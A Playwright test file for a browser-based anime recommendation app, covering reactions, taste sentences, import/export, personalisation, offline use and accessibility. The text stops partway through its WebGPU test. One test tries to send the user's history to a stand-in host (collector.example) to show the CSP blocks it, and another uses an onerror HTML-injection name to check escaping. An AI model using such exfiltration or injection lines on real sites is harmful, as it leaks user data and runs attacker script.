// The app as a person uses it, in Debian's Chromium, on the built site (dist/demo) served by a
// plain static server under a sub-path: reactions change the recommendations
// (with reasons), a taste sentence works from an empty history, the profile survives a reload
// and travels by export/import, bad imports change nothing, personalisation runs to the end on
// the CPU fallback and on WebGPU (SwiftShader), every request is a same-origin static GET, the
// page works offline, and it can be used with the keyboard alone.

import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, test } from 'node:test';

import {
  SITE, backendOf, cancelPersonalisation, launch, likeFromSearch, listSettled as settled, longPersonalisation, reactToItem,
  reactionsOf as history, shownRecommendations as recommendedIds, siteCopy, startServer, untilStep, waitForState, watch,
} from './harness.mjs';

const LOAD_TIMEOUT = 180_000;
const REPO = fileURLToPath(new URL('../../', import.meta.url));
const SCREENSHOTS = join(REPO, 'target/browser-tests');

let server;
before(async () => { server = await startServer(); });
after(async () => { await server?.close(); });

/** A fresh profile (context) with the app loaded and its first recommendations shown. */
async function openApp(browser, { query = '?backend=cpu', url = server.url, timeout = LOAD_TIMEOUT, context } = {}) {
  context ??= await browser.newContext({ viewport: { width: 1280, height: 1000 }, acceptDownloads: true });
  const page = await context.newPage();
  const seen = watch(page);
  await page.goto(`${url}${query}`);
  await waitForState(page, 'ready', timeout);
  return { context, page, seen };
}


const genresOf = (page, ids) => page.evaluate((list) => {
  const rows = [...document.querySelectorAll('#recommendations .item')];
  return list.map((id) => rows.find((r) => Number(r.dataset.item) === id)?.querySelector('.meta').textContent ?? '');
}, ids);

describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
  let browser;
  before(async () => { browser = await launch({ webgpu: false }); });
  after(async () => { await browser?.close(); });

  test('liking three items changes the list, which excludes them and says why', async () => {
    const { context, page, seen } = await openApp(browser);
    const before = await recommendedIds(page);
    assert.equal(before.length, 20);
    assert.match(await page.textContent('#recs-note'), /Popular with everyone/);
    const mechaBefore = (await genresOf(page, before.slice(0, 10))).filter((g) => g.includes('Mecha')).length;

    // The main series (search ranks exact and prefix title matches first). The recommendations
    // follow what people who watched the liked shows went on to watch; for three niche spin-offs
    // ("Gundam Build Fighters" and the like) that is eclectic, for the main series it is mecha.
    const liked = await likeFromSearch(page, 'mobile suit gundam', 3);
    const afterIds = await recommendedIds(page);
    assert.equal(afterIds.length, 20);
    assert.notDeepEqual(afterIds, before, 'the list changed');
    for (const id of liked) assert.ok(!afterIds.includes(id), `liked item ${id} is not recommended`);
    const reasons = await page.$$eval('#recommendations .because', (els) => els.map((e) => e.textContent));
    assert.ok(reasons.length > 0, 'recommendations carry reasons');
    const likedNames = await page.evaluate((ids) => ids.map((id) => document.querySelector(`#history li[data-item="${id}"] .name`).textContent), liked);
    assert.ok(reasons.some((r) => r.startsWith('Because you liked') && likedNames.some((n) => r.includes(n))), reasons[0]);
    // Likes of mecha shows bring mecha: most of the new top 10 share the genre.
    const mecha = async (ids) => (await genresOf(page, ids.slice(0, 10))).filter((g) => g.includes('Mecha')).length;
    assert.ok((await mecha(afterIds)) >= Math.max(5, mechaBefore + 3), `${await mecha(afterIds)} of 10 are mecha (before: ${mechaBefore})`);

    // The history panel lists them; pressing Like again takes a reaction back.
    assert.equal(await page.locator('#history li').count(), 3);
    await page.locator(`#search-results .item[data-item="${liked[0]}"] button.like`).click();
    await settled(page);
    assert.deepEqual((await history(page)).map((e) => e.item), liked.slice(1));
    assert.deepEqual(seen.errors, []);
    await context.close();
  });

  test('a taste sentence gives fitting recommendations with an empty history', async () => {
    const { context, page, seen } = await openApp(browser);
    const spaceOrMecha = (genres) => genres.filter((g) => /Mecha|Space/.test(g)).length;
    const baseline = spaceOrMecha(await genresOf(page, (await recommendedIds(page)).slice(0, 10)));

    await page.fill('#taste', 'giant robots and space wars');
    await page.press('#taste', 'Enter');
    await settled(page);
    const top = (await recommendedIds(page)).slice(0, 10);
    const fitting = spaceOrMecha(await genresOf(page, top));
    assert.ok(fitting >= 4 && fitting >= baseline + 3, `${fitting} of 10 are mecha or space (without the sentence: ${baseline})`);
    assert.match(await page.textContent('#recommendations .because'), /you described “giant robots and space wars”/);
    assert.match(await page.textContent('#pieces'), /\[CLS\] giant robots and space wars \[SEP\]/);
    assert.deepEqual(await history(page), [], 'no reactions were needed');
    assert.deepEqual(seen.errors, []);
    await context.close();
  });

  test('with ?encoder=on-use nothing of the language model is fetched until the taste box is used, which then works', async () => {
    // What a catalogue too big for 'auto' (AUTO_ENCODER_BYTES) does by itself.
    const context = await browser.newContext({ viewport: { width: 1280, height: 1000 } });
    const requests = [];
    context.on('request', (r) => requests.push(r.url()));
    const page = await context.newPage();
    const seen = watch(page);
    await page.goto(`${server.url}?backend=cpu&encoder=on-use`);
    await page.waitForFunction(() => document.body.dataset.encoder === 'on-use', null, { timeout: LOAD_TIMEOUT });
    await settled(page);
    assert.equal((await recommendedIds(page)).length, 20);
    // The service worker is in by now too: it leaves the language model's files to the library.
    await page.evaluate(() => navigator.serviceWorker.ready);
    const languageFiles = (url) => /\/models\/|item_vectors\.safetensors|adapter\.safetensors/.test(url);
    assert.deepEqual(requests.filter(languageFiles), [], 'nothing of the language model before the box is used');
    assert.match(await page.textContent('#taste-note'), /downloads when you start typing here/);

    await page.focus('#taste');
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.ok(requests.some(languageFiles));
    // Kept once, by the library, not also by the service worker they passed through.
    const kept = await page.evaluate(async () => Object.fromEntries(await Promise.all(['localrec-site-v2', 'localrec-language-files']
      .map(async (name) => [name, (await (await caches.open(name)).keys()).map((r) => r.url.split('/').pop())]))));
    assert.deepEqual(kept['localrec-language-files'].sort(), ['adapter.safetensors', 'item_vectors.safetensors']);
    assert.ok(!kept['localrec-site-v2'].some((name) => ['adapter.safetensors', 'item_vectors.safetensors'].includes(name)), String(kept['localrec-site-v2']));
    await page.fill('#taste', 'giant robots and space wars');
    await page.press('#taste', 'Enter');
    await settled(page);
    assert.match(await page.textContent('#recommendations .because'), /you described “giant robots and space wars”/);
    assert.deepEqual(seen.errors, []);
    await context.close();
  });

  test('a taste described after three likes moves the list towards it', async () => {
    // Three school romances and comedies, then a taste far from them: the sentence must show in
    // the list (the model fine-tuned with taste sentences, at the weights anime-5k's validation
    // users chose: 32 per cosine, as 5 reactions), not drown under the three likes' item–item part.
    const { context, page, seen } = await openApp(browser);
    for (const title of ['clannad', 'toradora', 'k-on']) await likeFromSearch(page, title, 1);
    const before = (await recommendedIds(page)).slice(0, 10);
    await page.fill('#taste', 'giant robots and space wars');
    await page.press('#taste', 'Enter');
    await settled(page);
    const after = (await recommendedIds(page)).slice(0, 10);
    const moved = after.filter((id) => !before.includes(id));
    const fitting = (await genresOf(page, moved)).filter((g) => /Mecha|Space|Sci-Fi/.test(g)).length;
    // Before: 2 rows (the two Code Geass series); now 3, all mecha or science fiction.
    assert.ok(moved.length >= 3 && fitting === moved.length, `${moved.length} rows moved, ${fitting} of them mecha, space or science fiction`);
    assert.deepEqual(seen.errors, []);
    await context.close();
  });

  test('the profile survives a reload, and export → import into a fresh profile gives the same history', async () => {
    const { context, page } = await openApp(browser);
    await likeFromSearch(page, 'cowboy bebop', 1);
    await page.fill('#search', 'clannad');
    const rated = Number(await page.locator('#search-results .item').first().getAttribute('data-item'));
    await page.locator('#search-results .item').first().locator('select').selectOption('9');
    await page.fill('#search', 'naruto');
    await page.locator('#search-results .item').first().locator('button.dislike').click();
    await page.fill('#taste', 'quiet stories about growing up');
    await page.press('#taste', 'Enter');
    await settled(page);
    const saved = await history(page);
    assert.equal(saved.length, 3);
    assert.deepEqual(saved[1], { item: rated, reaction: 9 });
    assert.equal(saved[2].reaction, 'dislike');

    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual(await history(page), saved, 'same history after a reload');
    assert.equal(await page.inputValue('#taste'), 'quiet stories about growing up');
    assert.equal(await page.locator('#history li').count(), 3);

    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
    const file = JSON.parse(await readFile(await download.path(), 'utf8'));
    assert.equal(file.format, 'localrec-history');
    assert.equal(file.schema, 2);
    assert.equal(file.history.length, 3);

    const fresh = await openApp(browser);
    assert.deepEqual(await history(fresh.page), [], 'a fresh profile starts empty');
    await fresh.page.setInputFiles('#import-file', { name: 'mine.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
    await fresh.page.waitForFunction(() => /Imported 3 reactions/.test(document.getElementById('data-message').textContent));
    await settled(fresh.page);
    assert.deepEqual(await history(fresh.page), saved, 'the same history in the fresh profile');
    assert.equal(await fresh.page.inputValue('#taste'), 'quiet stories about growing up');
    await fresh.page.reload();
    await waitForState(fresh.page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual(await history(fresh.page), saved, 'the import was saved');

    // Delete everything (after a confirmation): gone now and after a reload.
    fresh.page.once('dialog', (dialog) => dialog.accept());
    await fresh.page.click('#delete-all');
    await fresh.page.waitForFunction(() => /deleted/.test(document.getElementById('data-message').textContent));
    await settled(fresh.page);
    assert.deepEqual(await history(fresh.page), []);
    assert.equal(await fresh.page.inputValue('#taste'), '');
    await fresh.page.reload();
    await waitForState(fresh.page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual(await history(fresh.page), [], 'nothing comes back after a reload');
    await fresh.context.close();
    await context.close();
  });

  test('a malformed import is a clear message and changes nothing', async () => {
    const { context, page } = await openApp(browser);
    const liked = await likeFromSearch(page, 'haikyuu', 2);
    const before = await history(page);
    const valid = { format: 'localrec-history', schema: 1, catalog: 'anime-5k', history: [{ item: liked[0], reaction: 'like' }] };
    const huge = join(await mkdtemp(join(tmpdir(), 'localrec-import-')), 'huge.json');
    await writeFile(huge, '');
    await truncate(huge, 1024 ** 3); // 1 GB (sparse): refused by its size, never read
    const cases = [
      ['bad JSON', Buffer.from('{"format": "localrec-history", '), /not valid JSON/],
      ['another file', Buffer.from('{"hello": 1}'), /not a localrec history file/],
      ['a newer schema', Buffer.from(JSON.stringify({ ...valid, schema: 3 })), /schema 3/],
      ['another catalogue', Buffer.from(JSON.stringify({ ...valid, catalog: 'books' })), /catalogue "books"/],
      ['unknown ids', Buffer.from(JSON.stringify({ ...valid, history: [{ item: 99999999, reaction: 'like' }, { item: 88888888, reaction: 3 }] })), /2 item ids are not in this catalogue \(99999999, 88888888\)/],
      ['a bad reaction', Buffer.from(JSON.stringify({ ...valid, history: [{ item: liked[0], reaction: 11 }] })), /expected "like", "dislike" or a rating 1–10/],
      ['a huge file', huge, /1073\.7 MB; a history file is at most 5 MB/],
    ];
    for (const [name, content, message] of cases) {
      const input = typeof content === 'string' ? content : { name: `${name}.json`, mimeType: 'application/json', buffer: content };
      await page.evaluate(() => { for (const message of document.querySelectorAll('#data-message .message')) message.textContent = ''; });
      await page.setInputFiles('#import-file', input);
      await page.waitForFunction(() => document.getElementById('data-message').textContent !== '');
      const shown = await page.textContent('#data-message');
      assert.match(shown, /^Nothing was imported\./, name);
      assert.match(shown, message, name);
      assert.deepEqual(await history(page), before, `${name}: history unchanged`);
    }
    await rm(join(huge, '..'), { recursive: true, force: true });
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual(await history(page), before, 'the saved history is unchanged too');
    await context.close();
  });

  test('personalize runs to 100% with a live chart, is used at once, can be cancelled, and a reload during a run is told', async () => {
    const { context, page, seen } = await openApp(browser);
    await likeFromSearch(page, 'gundam', 4);
    await likeFromSearch(page, 'macross', 2);
    const before = await recommendedIds(page);
    assert.equal(await page.isDisabled('#train'), false);
    await page.click('#train');
    await page.waitForFunction(() => /held-out loss .* → |nothing changed/.test(document.getElementById('train-status').textContent), null, { timeout: 120_000 });
    await settled(page);
    assert.equal(await page.getAttribute('#train-progress', 'value'), '1', 'the progress bar reached 100%');
    // (The chart's points: a canvas says them to no one, so the page's hook.)
    const points = await page.evaluate(() => window.localrec.chart.points);
    assert.ok(points >= 2, `the chart has ${points} points`);
    assert.ok(await page.getByRole('img', { name: 'Training loss and held-out loss per step' }).locator('canvas').count() > 0, 'the chart is drawn');
    const personal = await page.evaluate(() => window.localrec.rec.personal);
    assert.ok(personal && personal.residual.length === 64 && personal.best < personal.initial, 'personal weights kept');
    assert.match(await page.textContent('#recs-note'), /with your personal weights/);
    assert.notDeepEqual(await recommendedIds(page), before, 'the personal weights changed the list');

    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual((await page.evaluate(() => window.localrec.rec.personal)).residual, personal.residual, 'saved');

    // Cancel: a long run (no early stop) stops after the current step.
    const { validations } = await cancelPersonalisation(page, longPersonalisation(page));
    assert.equal(await page.textContent('#train-status'), `Cancelled at step ${validations.length}; your previous personal weights are kept.`);
    assert.deepEqual((await page.evaluate(() => window.localrec.rec.personal)).residual, personal.residual, 'a cancelled run keeps the weights');
    assert.equal(await page.isHidden('#train-cancel'), true);
    assert.deepEqual(seen.errors, []);

    // A reload during a run loses it; the page says so afterwards (once), and the weights stay.
    longPersonalisation(page).catch(() => {}); // ended by the reload
    await untilStep(page, 3);
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.match(await page.textContent('#train-status'), /^Your last personalisation was still running when the page was reloaded or closed, so it was lost and nothing changed\./);
    assert.deepEqual((await page.evaluate(() => window.localrec.rec.personal)).residual, personal.residual);
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.equal(await page.textContent('#train-status'), '', 'said once');
    await context.close();
  });

  test('two tabs on one profile keep each other\'s reactions, also during a personalisation', async () => {
    const { context, page: first } = await openApp(browser);
    const { page: second } = await openApp(browser, { context });
    // Both tabs react at the same time.
    const [a, b] = await Promise.all([likeFromSearch(first, 'gundam', 2), likeFromSearch(second, 'clannad', 2)]);
    const all = [...a, ...b].sort();
    for (const page of [first, second]) {
      await page.waitForFunction((n) => window.localrec.rec.history.length === n, all.length);
      await settled(page);
      assert.deepEqual((await history(page)).map((e) => e.item).sort(), all);
      const shown = await recommendedIds(page);
      assert.ok(all.every((id) => !shown.includes(id)), 'no tab recommends what the other liked');
    }

    // A reaction made while a personalisation runs is kept, and so are the personal weights.
    // 80 steps with no early end (the page's hook; about 1.5 s on the CPU), so that the like
    // below is made and saved while it runs. The tab in front: a background tab's status line
    // is not polled (no animation frames).
    await first.bringToFront();
    const training = first.evaluate(() => window.localrec.personalize({ steps: 80, patience: 1e9 }));
    let trained = false;
    training.then(() => { trained = true; }, () => {});
    await untilStep(first, 1);
    const [during] = await likeFromSearch(first, 'haikyuu', 1, (page) => page.evaluate(() => window.localrec.rec.saved()));
    assert.equal(trained, false, 'the like was made and saved while the personalisation ran');
    const report = await training;
    // Weights are kept only when they improve the held-out loss; these reactions' do, or this
    // test could not see whether they are saved.
    assert.ok(report.best < report.initial && !report.cancelled, JSON.stringify({ initial: report.initial, best: report.best }));
    assert.match(await first.textContent('#train-status'), /held-out loss .* → /);
    await first.reload();
    await waitForState(first, 'ready', LOAD_TIMEOUT);
    const saved = await first.evaluate(() => window.localrec.rec.profile);
    assert.deepEqual(saved.history.map((e) => e.item).sort(), [...all, during].sort());
    assert.equal(saved.personal?.residual.length, 64, 'personal weights saved beside the new reaction');
    await context.close();
  });

  test('when storage is full, denied or slow to open, the app says so, keeps working, and what was saved stays', async () => {
    const { context, page } = await openApp(browser);
    const [kept] = await likeFromSearch(page, 'gundam', 1);
    // Storage fills up: IndexedDB refuses writes as Chromium does over quota.
    await page.evaluate(() => {
      IDBObjectStore.prototype.put = function put() {
        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      };
    });
    const [unsaved] = await likeFromSearch(page, 'clannad', 1);
    await page.evaluate(() => window.localrec.rec.saved());
    assert.match(await page.textContent('#notice-message'), /Could not save to this browser's storage \(The quota has been exceeded\.\).*kept in this tab/);
    assert.ok(!(await recommendedIds(page)).includes(unsaved), 'the unsaved reaction still counts here');
    assert.deepEqual((await history(page)).map((e) => e.item), [kept, unsaved]);
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual((await history(page)).map((e) => e.item), [kept], 'the saved profile is intact');

    // Right after a crash the browser may fail to open the database for a moment: the app
    // tries again rather than starting with an empty history.
    await context.addInitScript(() => {
      const open = IDBFactory.prototype.open;
      let failures = 2;
      IDBFactory.prototype.open = function openAfterFailures(...args) {
        if (failures-- > 0) throw new DOMException('Internal error opening backing store for indexedDB.open.', 'UnknownError');
        return open.apply(this, args);
      };
    });
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual((await history(page)).map((e) => e.item), [kept], 'the profile is read once the database opens');
    assert.match(await page.textContent('#storage-status'), /^Saved in this browser/);

    // Storage denied altogether (as in some private modes): the app works in memory.
    const denied = await browser.newContext();
    await denied.addInitScript(() => {
      IDBFactory.prototype.open = function open() {
        throw new DOMException('The user denied permission to access the database.', 'SecurityError');
      };
    });
    const other = await openApp(browser, { context: denied });
    assert.match(await other.page.textContent('#storage-status'), /does not let the page store data/);
    const liked = await likeFromSearch(other.page, 'gundam', 2);
    const shown = await recommendedIds(other.page);
    assert.ok(liked.every((id) => !shown.includes(id)), 'reactions work');
    assert.equal((await history(other.page)).length, 2);
    await denied.close();
    await context.close();
  });

  test('a whole session makes only same-origin GETs of static files, and works offline', async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const requests = [];
    context.on('request', (r) => requests.push({ method: r.method(), url: r.url(), body: r.postData() }));
    const failures = new Map();
    context.on('requestfailed', (r) => failures.set(r.url(), r.failure()?.errorText));
    const { page } = await openApp(browser, { context });
    await likeFromSearch(page, 'gundam', 3);
    await page.fill('#taste', 'space pirates');
    await page.press('#taste', 'Enter');
    await settled(page);
    await page.click('#train');
    await page.waitForFunction(() => /held-out loss|nothing changed/.test(document.getElementById('train-status').textContent), null, { timeout: 120_000 });
    await Promise.all([page.waitForEvent('download'), page.click('#export')]);

    const origin = new URL(server.url).origin;
    // The site's own files, under its sub-path (site.json lists them all, and the .gz copies
    // that this server, which sends files as they are, is asked for instead).
    const files = JSON.parse(await readFile(join(SITE, 'site.json'), 'utf8')).files;
    const listed = new Set(['', 'site.json', ...files.map((f) => f.path), ...files.filter((f) => f.encoded?.gz).map((f) => `${f.path}.gz`)]);
    const sub = new URL(server.url).pathname;
    const staticFile = { test: (path) => path.startsWith(sub) && listed.has(path.slice(sub.length)) };
    const outside = requests.filter(({ method, url, body }) => {
      if (url.startsWith('blob:') || url.startsWith('data:')) return false; // in-page, never on the network
      const u = new URL(url);
      // HEAD: how the host sends files is asked once, of the wasm (see www/gzip-copies.js).
      return !['GET', 'HEAD'].includes(method) || body !== null || u.origin !== origin || !staticFile.test(u.pathname) || (u.search !== '' && u.search !== '?backend=cpu');
    });
    assert.deepEqual(outside, [], 'every request is a same-origin GET (or HEAD) of a static file');
    assert.ok(requests.length > 5);
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.match(csp, /default-src 'self'/);
    assert.match(csp, /connect-src 'self'/);

    // Nothing is stored outside IndexedDB and the Cache API: no cookies, no web storage.
    assert.deepEqual(await context.cookies(), []);
    assert.deepEqual(await page.evaluate(() => [localStorage.length, sessionStorage.length]), [0, 0]);

    // Even code running in the page could not send the history out: the CSP blocks every way.
    const before = requests.length;
    const blocked = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const history = JSON.stringify(window.localrec.rec.history);
      await fetch(`https://collector.example/?h=${history}`).catch(() => {});
      navigator.sendBeacon?.('https://collector.example/', history);
      const image = new Image();
      image.src = `https://collector.example/pixel?h=${history}`;
      await new Promise((resolve) => setTimeout(resolve, 500));
      return violations;
    });
    assert.ok(['connect-src', 'img-src'].every((d) => blocked.some((v) => v.startsWith(d))), `blocked: ${blocked}`);
    // Chromium reports the blocked image as a request that failed before the network.
    const outsideAfter = requests.slice(before).filter((r) => !r.url.startsWith(origin));
    assert.deepEqual(outsideAfter.map((r) => failures.get(r.url)), outsideAfter.map(() => 'csp'), 'blocked by the CSP, before the network');

    // Offline: the service worker and the model cache carry the next visit.
    const liked = await history(page);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await context.setOffline(true);
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    assert.deepEqual(await history(page), liked);
    assert.equal(await page.evaluate(async () => (await window.localrec.rec.ready.encoder).fromCache), true, 'the model came from the cache');
    // The list of those reactions too: their item–item rows were kept when first fetched.
    await settled(page);
    assert.equal((await recommendedIds(page)).length, 20);
    assert.equal(await page.isHidden('#notice'), true, await page.textContent('#notice-message'));
    await context.close();
  });

  test("a reaction's item–item rows come by need: one shard, cached; a failed or corrupted download says so, changes no list, and can be retried", async (t) => {
    const manifest = JSON.parse(await readFile(join(SITE, 'site.json'), 'utf8'));
    const { itemItemShards: shards, path, items, files } = manifest.catalogs.find((c) => c.name === 'anime-5k');
    assert.ok(shards.length >= 4, `${shards.length} shards`);
    // The shards cover the catalogue's rows once, in order, each a listed, content-named file.
    assert.deepEqual(shards.map((s) => s.rows).flat(), [0, ...shards.slice(1).flatMap((s) => [s.rows[0], s.rows[0]]), items]);
    const sha256Of = new Map(manifest.files.map((f) => [f.path, f.sha256]));
    for (const { file } of shards) assert.equal(sha256Of.get(`${path}${file}`)?.slice(0, 16), file.match(/([0-9a-f]{16})\.safetensors$/)?.[1], file);
    assert.equal(files.itemItem, undefined, 'the whole table is not in the first list\'s files');
    const context = await browser.newContext({ viewport: { width: 1280, height: 1000 } });
    const fetched = [];
    // A shard or its .gz copy (which the page asks for first on a host that sends files as they are).
    context.on('request', (r) => { if (r.url().includes('/item_item/')) fetched.push(r.url().replace(/\.gz$/, '')); });
    const { page } = await openApp(browser, { context });
    assert.deepEqual(fetched, [], 'no rows before the first reaction');
    const ids = await page.evaluate(() => window.localrec.rec.catalog.items.map((item) => item.id));
    const url = (k) => new URL(`${path}${shards[k].file}`, server.url).href;
    // An item whose row is in shard k (the catalogue's order is the rows').
    const itemIn = (k) => ids[Math.floor((shards[k].rows[0] + shards[k].rows[1]) / 2)];
    const like = (id) => reactToItem(page, id);
    const notice = () => page.evaluate(() => ({
      shown: !document.getElementById('notice').hidden,
      retry: !document.getElementById('notice-retry').hidden,
      text: document.getElementById('notice-message').textContent,
    }));

    // A like fetches the one shard that holds its rows, and the list follows it.
    const first = await recommendedIds(page);
    await like(itemIn(0));
    assert.deepEqual(fetched, [url(0)]);
    const afterLike = await recommendedIds(page);
    assert.notDeepEqual(afterLike, first);
    assert.equal((await notice()).shown, false);
    // (The page's own clock: no screen says how long a list took.)
    t.diagnostic(`a like whose rows were fetched: list in ${Math.round(await page.evaluate(() => window.localrec.timings.updates.at(-1)))} ms`);

    // Offline for that shard: the list stays as it was and the page says why, with a retry.
    const shard2 = `${url(2)}*`; // the file and its .gz copy
    await context.route(shard2, (route) => route.abort('internetdisconnected'));
    await like(itemIn(2));
    let said = await notice();
    assert.ok(said.shown && said.retry, JSON.stringify(said));
    assert.match(said.text, /could not download the item–item rows of items \d+–\d+/);
    assert.deepEqual(await recommendedIds(page), afterLike, 'no list without the rows');
    assert.ok((await history(page)).some((e) => e.item === itemIn(2)), 'the reaction itself is kept');

    // A damaged copy (one byte changed) fails its sha256: named, and no list from it either.
    await context.unroute(shard2);
    await context.route(shard2, async (route) => {
      const response = await route.fetch();
      const body = await response.body();
      body[body.length - 1] ^= 0xff;
      await route.fulfill({ response, body });
    });
    await page.click('#notice-retry');
    await settled(page);
    said = await notice();
    assert.ok(said.shown && said.retry, JSON.stringify(said));
    assert.match(said.text, /item–item rows of items .* is corrupted: its sha256/);
    assert.deepEqual(await recommendedIds(page), afterLike);

    // Mended: a retry brings the rows and the list, and the notice goes.
    await context.unroute(shard2);
    await page.click('#notice-retry');
    await settled(page);
    assert.equal((await notice()).shown, false);
    assert.notDeepEqual(await recommendedIds(page), afterLike);
    const listed = await recommendedIds(page);

    // The next visit reads both shards from the cache: no request, the same list.
    const requests = fetched.length;
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    await settled(page);
    assert.equal(fetched.length, requests, 'the rows came from the cache');
    assert.deepEqual(await recommendedIds(page), listed);
    await context.close();
  });

  test("a sentence's word rows come by need: a few shards, cached; offline, new words say so and can be retried", async () => {
    const manifest = JSON.parse(await readFile(join(SITE, 'site.json'), 'utf8'));
    const { wordShards: shards, path } = manifest.model;
    // The shards cover the vocabulary's rows once, in order, each a listed, content-named file.
    assert.deepEqual(shards.map((s) => s.rows).flat(), [0, ...shards.slice(1).flatMap((s) => [s.rows[0], s.rows[0]]), 30522]);
    const sha256Of = new Map(manifest.files.map((f) => [f.path, f.sha256]));
    for (const { file } of shards) assert.equal(sha256Of.get(`${path}${file}`)?.slice(0, 16), file.match(/([0-9a-f]{16})\.safetensors$/)?.[1], file);
    const context = await browser.newContext({ viewport: { width: 1280, height: 1000 } });
    const fetched = [];
    context.on('request', (r) => { if (r.url().includes('/words/')) fetched.push(r.url().replace(/\.gz$/, '')); });
    const { page } = await openApp(browser, { context });
    assert.deepEqual(fetched, [], 'no word rows before a sentence');
    const notice = () => page.evaluate(() => ({
      shown: !document.getElementById('notice').hidden,
      retry: !document.getElementById('notice-retry').hidden,
      text: document.getElementById('notice-message').textContent,
    }));
    const describe = async (text) => {
      await page.fill('#taste', text);
      await page.press('#taste', 'Enter');
      await settled(page);
    };

    // A sentence fetches the few shards its word pieces are in.
    await describe('giant robots and space wars');
    assert.match(await page.textContent('#recommendations .because'), /you described “giant robots and space wars”/);
    assert.ok(fetched.length >= 2 && fetched.length <= 8, `${fetched.length} shards`);
    const described = await recommendedIds(page);

    // Offline for new words: the list stays as it was and the page says why, with a retry.
    const before = fetched.length;
    await context.route('**/words/*', (route) => route.abort('internetdisconnected'));
    await describe('zeppelins exploring volcanoes');
    const said = await notice();
    assert.ok(fetched.length > before, 'the new words were asked for');
    assert.ok(said.shown && said.retry, JSON.stringify(said));
    assert.match(said.text, /could not download the language model's words \d+–\d+/);
    assert.deepEqual(await recommendedIds(page), described, 'no list without the words');

    // Back online, a retry brings the words and the list, and the notice goes.
    await context.unroute('**/words/*');
    await page.click('#notice-retry');
    await settled(page);
    assert.equal((await notice()).shown, false);
    assert.match(await page.textContent('#recommendations .because'), /you described “zeppelins exploring volcanoes”/);

    // The next visit reads the words from the cache: no request.
    const requests = fetched.length;
    await page.reload();
    await waitForState(page, 'ready', LOAD_TIMEOUT);
    await settled(page);
    assert.match(await page.textContent('#recommendations .because'), /you described “zeppelins exploring volcanoes”/);
    assert.equal(fetched.length, requests, 'the words came from the cache');
    await context.close();
  });

  test('keyboard alone: every control is labelled and reachable, reactions work with Enter', async () => {
    const { context, page } = await openApp(browser);
    const unlabelled = await page.evaluate(() => [...document.querySelectorAll('button, input, select, textarea, canvas, progress')]
      .filter((el) => {
        const label = el.getAttribute('aria-label') || [...(el.labels ?? [])].map((l) => l.textContent).join('') || (el.tagName === 'BUTTON' ? el.textContent : '');
        return !label.trim();
      })
      .map((el) => el.outerHTML.slice(0, 80)));
    assert.deepEqual(unlabelled, []);

    await page.focus('#search');
    await page.keyboard.type('evangelion');
    await page.waitForSelector('#search-results .item');
    // Tab from the search box to the first result's Like button, press Enter.
    let focused = '';
    for (let i = 0; i < 10 && !focused.startsWith('Like '); i++) {
      await page.keyboard.press('Tab');
      focused = await page.evaluate(() => document.activeElement.getAttribute('aria-label') ?? '');
    }
    assert.match(focused, /^Like .*Evangelion/i);
    await page.keyboard.press('Enter');
    await settled(page);
    assert.equal((await history(page)).length, 1);
    // The list was redrawn; the focus stayed on the same control, now pressed.
    assert.deepEqual(await page.evaluate(() => [document.activeElement.getAttribute('aria-label'), document.activeElement.getAttribute('aria-pressed')]), [focused, 'true']);
    // The taste box submits with Enter too.
    await page.focus('#taste');
    await page.keyboard.type('mecha');
    await page.keyboard.press('Enter');
    await settled(page);
    assert.equal(await page.evaluate(() => window.localrec.rec.taste), 'mecha');

    await mkdir(SCREENSHOTS, { recursive: true });
    await likeFromSearch(page, 'cowboy bebop', 1);
    await page.evaluate(() => { document.activeElement.blur(); window.scrollTo(0, 0); });
    await page.screenshot({ path: join(SCREENSHOTS, 'app-main.png'), fullPage: false });
    await context.close();
  });

  test('item names with HTML in them show as text', async () => {
    const site = await siteWithHostileName('<img src=x onerror="window.pwned=1">Bebop <b>bold</b>');
    const hostile = await startServer({ site: site.site });
    try {
      const { context, page } = await openApp(browser, { url: hostile.url });
      await page.fill('#search', 'bebop');
      const names = await page.$$eval('#search-results .name', (els) => els.map((e) => e.textContent));
      assert.ok(names.includes('<img src=x onerror="window.pwned=1">Bebop <b>bold</b>'), names.join(' / '));
      assert.equal(await page.locator('#search-results img, #search-results b').count(), 0);
      assert.equal(await page.evaluate(() => window.pwned), undefined);
      await context.close();
    } finally {
      await hostile.close();
      await site.remove();
    }
  });
});

describe('the app on WebGPU (SwiftShader)', { timeout: 900_000 }, () => {
  let browser;
  before(async () => { browser = await launch({ webgpu: true }); });
  after(async () => { await browser?.close(); });

  test('recommends and runs a short personalisation on WebGPU', async () => {
    const { context, page, seen } = await openApp(browser, { query: '?backend=webgpu', timeout: 480_000 });
    assert.equal(await backendOf(page), 'webgpu');
    const liked = await likeFromSearch(page, 'gundam', 3);
    const ids = await recommendedIds(page);
    assert.equal(ids.length, 20);
    for (const id of liked) assert.ok(!ids.includes(id));
    // Three steps (the page's hook: the Personalize button's 60 take minutes on SwiftShader).
    await page.evaluate(() => window.localrec.personalize({ steps: 3 }));
    assert.equal(await page.getAttribute('#train-progress', 'value'), '1');
